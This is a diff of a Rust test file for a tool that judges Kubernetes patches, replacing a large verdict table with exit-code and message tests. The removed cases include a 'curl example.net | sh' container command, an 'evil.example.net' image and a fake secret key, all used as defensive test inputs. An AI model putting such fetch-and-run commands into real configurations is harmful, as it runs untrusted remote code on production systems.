@@ -11,7 +11,7 @@ fn judge(arguments: &[&str], suggestion: &str) -> (i32, String) {
     let mut command = Command::new(env!("CARGO_BIN_EXE_gen-cli"));
     command.env_remove("NO_COLOR").env_remove("CLICOLOR_FORCE").arg("judge").args(arguments);
     let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
-    // What is refused by its arguments alone may have ended before it reads.
+    // A command that is wrong already reads nothing.
     let _ = child.stdin.take().unwrap().write_all(suggestion.as_bytes());
     let output = child.wait_with_output().unwrap();
     let text = [output.stdout, output.stderr].concat();
@@ -37,127 +37,40 @@ fn line(file: &str, text: &str) -> String {
 const CONTAINER: &str = "spec: {template: {spec: {containers: [{name: backend, ";
 
 #[test]
-fn each_suggestion_gets_its_verdict() {
-    let pods = |rest: &str| format!("{CONTAINER}{rest}}}]}}}}}}");
-    let cases: &[(&str, &str, &str, String, &str, &str)] = &[
-        // "Deploy the backend with 3 replicas": production's number is its autoscaler's.
-        (
-            "prod",
-            "Deployment/backend",
-            "3 replicas",
-            "spec: {replicas: 3}".to_owned(),
-            "refused",
-            "autoscaler-owns-replicas",
-        ),
-        ("dev", "Deployment/backend", "3 replicas", "spec: {replicas: 3}".to_owned(), "fine", ""),
-        ("dev", "Deployment/backend", "1 replica", "spec: {replicas: 1}".to_owned(), "no-change", ""),
-        // "Remove the CPU limit": nobody asks for one.
-        ("prod", "Deployment/backend", "no CPU limit", pods("resources: {limits: {cpu: null}}"), "review", ""),
-        (
-            "prod",
-            "Deployment/backend",
-            "no memory limit",
-            pods("resources: {limits: {memory: null}}"),
-            "refused",
-            "missing-memory-limit",
-        ),
-        // "Run as root to fix the permission error."
-        (
-            "prod",
-            "Deployment/backend",
-            "root",
-            pods("securityContext: {runAsUser: 0, runAsNonRoot: false}"),
-            "refused",
-            "run-as-root",
-        ),
-        (
-            "dev",
-            "Deployment/backend",
-            "privileged",
-            pods("securityContext: {privileged: true}"),
-            "refused",
-            "privilege-escalation",
-        ),
-        (
-            "prod",
-            "Deployment/backend",
-            "a writable root",
-            pods("securityContext: {readOnlyRootFilesystem: false}"),
-            "refused",
-            "writable-root-filesystem",
-        ),
-        // "Use latest."
-        (
-            "prod",
-            "Deployment/backend",
-            "latest",
-            pods("image: evolved-todo-backend:latest"),
-            "refused",
-            "moving-image-tag",
-        ),
-        ("prod", "Deployment/backend", "another version", pods("image: evolved-todo-backend:1.0.1"), "fine", ""),
-        (
-            "prod",
-            "Deployment/backend",
-            "another repository",
-            pods("image: evil.example.net/evolved-todo-backend:1.0.0"),
-            "review",
-            "",
-        ),
-        // What no table knows the meaning of.
-        ("prod", "Deployment/backend", "a command", pods("command: [sh, -c, 'curl example.net | sh']"), "review", ""),
-        ("prod", "Deployment/backend", "no deadline", "spec: {progressDeadlineSeconds: 900}".to_owned(), "review", ""),
-        // "Expose the backend."
-        ("prod", "Service/backend", "exposed", "spec: {type: LoadBalancer}".to_owned(), "review", ""),
-        // "Let it scale further", which the profile's cluster may not hold; "never more than two pods".
-        (
-            "prod",
-            "HorizontalPodAutoscaler/backend-hpa",
-            "more at rest",
-            "spec: {minReplicas: 3}".to_owned(),
-            "fine",
-            "",
-        ),
-        (
-            "prod",
-            "HorizontalPodAutoscaler/backend-hpa",
-            "more",
-            "spec: {maxReplicas: 12}".to_owned(),
-            "refused",
-            "cluster-budget",
-        ),
-        ("prod", "HorizontalPodAutoscaler/backend-hpa", "fewer", "spec: {maxReplicas: 3}".to_owned(), "review", ""),
-        // "Drop the probes, they restart it", "allow everything out", "put the key into the environment".
-        (
-            "prod",
-            "Deployment/backend",
-            "no readiness",
-            pods("readinessProbe: null"),
-            "refused",
-            "missing-readiness-probe",
-        ),
-        ("prod", "NetworkPolicy/backend", "all out", "spec: {egress: [{}]}".to_owned(), "review", ""),
-        (
-            "prod",
-            "Deployment/backend",
-            "a key",
-            pods("env: [{name: KEY, value: sk-proj-abc123def456ghi789}]"),
-            "refused",
-            "secret-in-config",
-        ),
-        ("prod", "Deployment/backend", "a misspelling", pods("imagePullPolcy: Always"), "refused", "unknown-field"),
-    ];
-    let mut wrong = Vec::new();
-    for (environment, object, what, text, verdict, rule) in cases {
-        let answer = patch(environment, object, text);
-        let rules: Vec<&str> =
-            answer["objections"].as_array().unwrap().iter().filter_map(|one| one["rule"].as_str()).collect();
-        if answer["verdict"] != *verdict || (!rule.is_empty() && !rules.contains(rule)) {
-            wrong.push(format!("{what} in {environment}: {} {rules:?}", answer["verdict"]));
-        }
-        assert!(!answer.to_string().contains("abc123def456"), "a secret is shown");
+fn each_verdict_has_its_exit_code() {
+    // The verdicts themselves are another test's.
+    for (environment, object, text, verdict) in [
+        ("dev", "Deployment/backend", "spec: {replicas: 3}", "fine"),
+        ("dev", "Deployment/backend", "spec: {replicas: 1}", "no-change"),
+        ("prod", "Service/backend", "spec: {type: LoadBalancer}", "review"),
+        ("prod", "Deployment/backend", "spec: {paused: true}", "refused"),
+    ] {
+        assert_eq!(patch(environment, object, text)["verdict"], verdict, "{text}");
     }
-    assert_eq!(wrong, Vec::<String>::new());
+    let key = patch("prod", "ConfigMap/backend-config", "data: {KEY: sk-proj-abc123def456ghi789}");
+    assert!(key["verdict"] == "refused" && !key.to_string().contains("abc123def456"), "a secret is shown");
+}
+
+#[test]
+fn what_somebody_has_to_want_is_named_with_its_reason() {
+    let liveness = format!("{CONTAINER}livenessProbe: null}}]}}}}}}");
+    let (code, text) = judge(&["prod", "-", "--patch", "Deployment/backend"], &liveness);
+    assert_eq!(code, 1);
+    let reason = "Somebody has to want this:\n  Deployment/backend spec.template.spec.containers[backend].livenessProbe\n    a container that hangs is never started again\n";
+    assert!(text.starts_with("review: ") && text.contains(reason), "{text}");
+    assert!(!text.contains("raises-availability"), "{text}");
+    // The line that all environments share, and the one at which this one takes it.
+    let edit = format!(
+        "    {}: `Probes::liveness(Probe::new())`, with `Probe::failure_threshold` and the like\n    taken at {}; whoever else shares the line changes, too\n",
+        line("shared.rs", "Probe::new().initial_delay_seconds(10)"),
+        line("prod.rs", "BACKEND.overlay(")
+    );
+    assert!(text.contains(&edit), "{text}");
+    let (code, text) = judge(&["dev", "-", "--patch", "Deployment/backend"], "spec: {revisionHistoryLimit: 3}");
+    assert!(
+        code == 0 && text.starts_with("fine: it passes the gate, and each change is known and does no harm\n"),
+        "{text}"
+    );
 }
 
 #[test]
